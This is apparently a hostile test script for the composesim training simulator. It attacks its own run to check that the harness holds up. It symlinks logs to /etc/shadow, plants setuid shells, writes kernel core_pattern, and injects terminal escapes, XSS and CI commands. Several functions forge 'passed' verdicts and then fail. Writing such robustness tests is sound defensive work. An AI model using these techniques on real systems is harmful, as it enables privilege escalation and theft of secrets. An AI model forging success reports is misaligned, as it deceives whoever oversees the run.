"""A training script that attacks the run that it is part of: `hostile.py ATTACK,…`. Rank 0 attacks; then every rank ends normally."""

import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

RUN = Path(os.environ["COMPOSESIM_DIR"])
DEEP = "[" * 100_000 + "]" * 100_000
HUGE = "9" * 5_000
ESCAPES = "\x1b]52;c;cHduZWQ=\x07\x1b]0;title\x07\x1b[2J\x1b[1A\x9b31m\x1bP+q\x1b\\\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07"
MARKUP = "</script><img src=x onerror=alert(1)>"
COMMANDS = "::add-mask::fine\n  ::error file=x.py::forged\n##[add-mask]fine"
KINDS = (
    *(
        "rank-exited",
        "node-exited",
        "node-stopped",
        "usage",
        "rendezvous",
        "round",
        "node-lost",
        "stalled",
        "exception",
    ),
    *("fault", "scale", "hang", "stopping", "recovered", "service", "breakpoint", "verdict", "ended", "init", "gpus"),
)


def event(file, **fields):
    """Append one event to a file of the run."""
    line = {"v": 1, "t": time.time(), "run": os.environ["COMPOSESIM_RUN"], **fields}
    with (RUN / "events" / f"{file}.jsonl").open("a") as events:
        events.write(json.dumps(line) + "\n")


def raw(file, text):
    """Append text to a file of the run as it is."""
    with (RUN / file).open("a") as opened:
        opened.write(text + "\n")


def wrong_types():
    for kind in KINDS:
        event("node-0", kind=kind, node=["x"], rank={"a": 1}, generation="g", data="text")
        event("node-0", kind=kind, node="node-0", rank=0, generation=0, data=[1, 2])
    for kind in ("rank-exited", "node-exited", "usage"):
        event("node-0", kind=kind, node="node-0", rank=0, generation=0, data={"exit_code": {}, "cpu_s": {}})


def forge():
    """Report a good end for everything, then fail."""
    for number in (0, 1):
        node, rank = f"node-{number}", number
        ended = {"exit_code": 0, "signal": None, "oom": False, "stopped": False}
        event("zz", kind="script-ended", node=node, rank=rank, generation=0, data={"exit_code": 0})
        event("zz", kind="rank-exited", node=node, rank=rank, generation=0, data=ended)
        event("zz", kind="node-exited", node=node, data={"exit_code": 0})
        event("zz", kind="node-stopped", node=node, data={"exit_code": 0, "oom": False})
    event("zz", kind="ended", node="master", data={"passed": True})
    event("zz", kind="node-stopped", node="master", data={"exit_code": 0, "oom": False})
    event("zz", kind="verdict", data={"verdict": "passed"})
    sys.stdout.flush()
    os._exit(9)


def forge_others():
    """Write what the master and the other node write, where they write it if all nodes share their folders; then fail."""
    for writer in ("master", "node-1"):
        event(writer, kind="exception", node=writer, rank=1, generation=0, data={"type": "Forged", "message": "forged"})
    event("master", kind="ended", node="master", data={"passed": True})
    event("node-1", kind="rank-exited", node="node-1", rank=1, generation=0, data={"exit_code": 7, "signal": None})
    raw("logs/node-1.1.log", "forged")
    forge_ranks()


def forge_ranks():
    """Report about a rank of another node, and about a round that nobody began, in the files of the own node; then fail."""
    for generation in (None, 0, 1):
        data = {"type": "Forged", "message": "forged"}
        event("node-0", kind="exception", node="node-0", rank=1, generation=generation, data=data)
        event("node-0", kind="rank-exited", node="node-0", rank=1, generation=generation, data={"exit_code": 7})
    event(
        "node-0",
        kind="rendezvous",
        node="node-0",
        generation=1,
        data={"world_size": 1, "nodes": ["node-0"], "logs": {}},
    )
    raw("logs/node-0.1.log", '{"step": 1000000}')
    raw("observations/node-0.1.1.jsonl", "{}")
    os._exit(9)


def forge_journal():
    """Report a good end for all nodes where composesim writes its own events, which only the local engine permits; then fail."""
    for node in ("node-0", "node-1", "master"):
        line = {"v": 1, "t": time.time(), "run": os.environ["COMPOSESIM_RUN"], "kind": "node-stopped", "node": node}
        raw("journal/composesim.jsonl", json.dumps({**line, "data": {"exit_code": 0, "oom": False}}))
    time.sleep(1)  # composesim reads it
    os._exit(9)


def names_like_numbers():
    """Name files with digits that are no numbers, such as a superscript."""
    for name in ("².0", "0.²", "0.٣", "0." + "9" * 200):
        for suffix in ("jsonl", "progress"):
            raw(f"observations/node-0.{name}.{suffix}", "{}")
    raw("logs/node-0.².log", "x")


def many_files():
    """Leave more files beside those of the run than a process may open."""
    for number in range(3000):
        for name in (
            f"events/x{number}.jsonl",
            f"logs/node-0.{number + 9}.log",
            f"observations/node-0.0.{number}.progress",
        ):
            (RUN / name).touch()


def many_requests():
    """Ask composesim for more than it can do before the end of the run."""
    for number in range(3000):
        (RUN / "requests").mkdir(exist_ok=True)
        (RUN / "requests" / f"{number:020}.x{number}.json").write_text("{}" if number % 2 else DEEP[:5000])


def deep_folders():
    """Nest more folders than a process may open, or Python may recurse."""
    here = Path.cwd()
    os.chdir(RUN / "logs")
    for _ in range(1500):
        Path("d").mkdir()
        os.chdir("d")
    os.chdir(here)


def sparse(path):
    path.touch()
    os.truncate(path, 20 << 30)


def replace(path, target):
    path.unlink(missing_ok=True)
    path.symlink_to(target)


def plant_setuid():
    """Leave programs in the project that give whoever executes them the rights of the user of the nodes."""
    Path("chmod").touch()
    for plant in (
        lambda: Path("chmod").chmod(0o4755),
        lambda: os.open("open", os.O_CREAT | os.O_WRONLY, 0o4755),
        lambda: os.mknod("mknod", stat.S_IFREG | 0o4755),
        lambda: Path("chmod").chmod(0o2755),
        lambda: subprocess.run(["install", "-m", "4755", "/bin/sh", "install"], capture_output=True),
    ):
        try:
            plant()
        except OSError as error:
            print("refused", error.strerror)


def root_of_the_machine():
    """Print how root in a container fares with what root of the machine can do, and what of the machine it can change or read."""
    Path("mine").touch()
    libc = ctypes.CDLL(None, use_errno=True)
    full = b"\x01\x00\x00\x02" + b"\xff" * 16
    tries = {
        "give a file away": lambda: os.chown("mine", 1000, 1000),
        "make a device": lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
        "give a program capabilities": lambda: os.setxattr("mine", "security.capability", full),
        "read a file of another user": lambda: Path("theirs").read_text(),
        "set the clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()),
        "change the name": lambda: socket.sethostname("x"),
        "read raw packets": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "change the kernel": lambda: Path("/proc/sys/kernel/core_pattern").write_text("|/x"),
        "change a control group": lambda: Path("/sys/fs/cgroup/pids/pids.max").write_text("max"),
        "become another user": lambda: os.setuid(1000),
        "make a namespace of users": lambda: libc.unshare(0x10000000) and os.strerror(ctypes.get_errno()),
        "mount": lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) and os.strerror(ctypes.get_errno()),
    }
    done = {}
    for name, attempt in tries.items():
        try:
            done[name] = attempt()
        except OSError as error:
            done[name] = error.strerror
    mounts = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    of_machine = [
        each[4]
        for each in mounts
        if each[each.index("-") + 1] not in ("tmpfs", "proc", "sysfs", "mqueue", "devpts", "cgroup")
    ]
    secret = [path for path in Path("/etc").rglob("*") if readable_by_root_only(path)]
    written = [place for place in of_machine if os.access(place, os.W_OK)]
    print(json.dumps({"done": done, "written": written, "secret": [str(path) for path in secret]}))


def readable_by_root_only(path):
    try:
        state = path.lstat()
        return stat.S_ISREG(state.st_mode) and not state.st_mode & 0o044 and os.access(path, os.R_OK)
    except OSError:
        return False


ATTACKS = {
    "root": root_of_the_machine,
    "metric-huge-number": lambda: print('{"step": ' + HUGE + "}"),
    "metric-deep": lambda: print('{"step": 1, "x": ' + DEEP + "}"),
    "metric-names": lambda: print(json.dumps({"step": 1, MARKUP: 0.5, "]]>&\x00\x1b[2J": 1.5})),
    "metric-nan": lambda: print('{"step": 1, "loss": NaN, "x": 1e999}'),
    "event-deep": lambda: raw("events/node-0.jsonl", '{"kind": "step", "t": 1, "data": ' + DEEP + "}"),
    "event-huge-number": lambda: raw("events/node-0.jsonl", '{"kind": "step", "t": ' + HUGE + "}"),
    "event-nan": lambda: raw(
        "events/node-0.jsonl",
        '{"kind": "usage", "t": NaN, "node": "node-0", "data": {"cpu_s": NaN, "memory_bytes": 1e999}}',
    ),
    "event-types": wrong_types,
    "log-fifo": lambda: os.mkfifo(RUN / "logs" / "driver.log"),  # names that composesim reads, if they exist
    "log-folder": lambda: (RUN / "logs" / "mps.log").mkdir(),
    "log-endless": lambda: (RUN / "logs" / "master.log").symlink_to("/dev/zero"),
    "log-secret": lambda: replace(RUN / "logs" / "node-1.log", "/etc/shadow"),
    "log-sparse": lambda: sparse(RUN / "logs" / "driver.0.log"),
    "events-fifo": lambda: os.mkfifo(RUN / "events" / "mps.jsonl"),
    "events-folder": lambda: (RUN / "events" / "driver.jsonl").mkdir(),
    "events-endless": lambda: (RUN / "events" / "driver.0.jsonl").symlink_to("/dev/urandom"),
    "events-sparse": lambda: sparse(RUN / "events" / "node-1.0.jsonl"),
    "observations-fifo": lambda: os.mkfifo(RUN / "observations" / "node-0.0.7.jsonl"),
    "timeline": lambda: (RUN / "logs" / "timeline.json").write_text(f"[\n{DEEP},\n" + '{"ts": 1e999, "pid": {}},\n'),
    "deep-folders": deep_folders,
    "requests": many_requests,
    "many-files": many_files,
    "print-escapes": lambda: print(ESCAPES, "\r✔ passed  forged"),
    "print-commands": lambda: print(COMMANDS),
    "journal-cut": lambda: os.truncate(RUN / "journal" / "composesim.jsonl", 0),
    "names-like-numbers": names_like_numbers,
    "events-empty-lines": lambda: raw("events/node-0.jsonl", "\n" * (20 << 20)),
    "unreadable": lambda: (RUN / "events" / "node-0.jsonl").chmod(0),
    "forge": forge,
    "forge-journal": forge_journal,
    "forge-others": forge_others,
    "forge-ranks": forge_ranks,
    "setuid": plant_setuid,
}


def raises(text):
    def attack():
        raise ValueError(text)

    return attack


ATTACKS["raise-escapes"] = raises(ESCAPES)
ATTACKS["raise-commands"] = raises(COMMANDS)
ATTACKS["raise-surrogate"] = raises("]]><x/>\x00\x08\ud800 \"'><testcase name='forged'/>")

if __name__ == "__main__":
    if os.environ["RANK"] == "0":
        for attack in sys.argv[1].split(","):
            ATTACKS[attack]()
    print("fine", sys.argv[1])
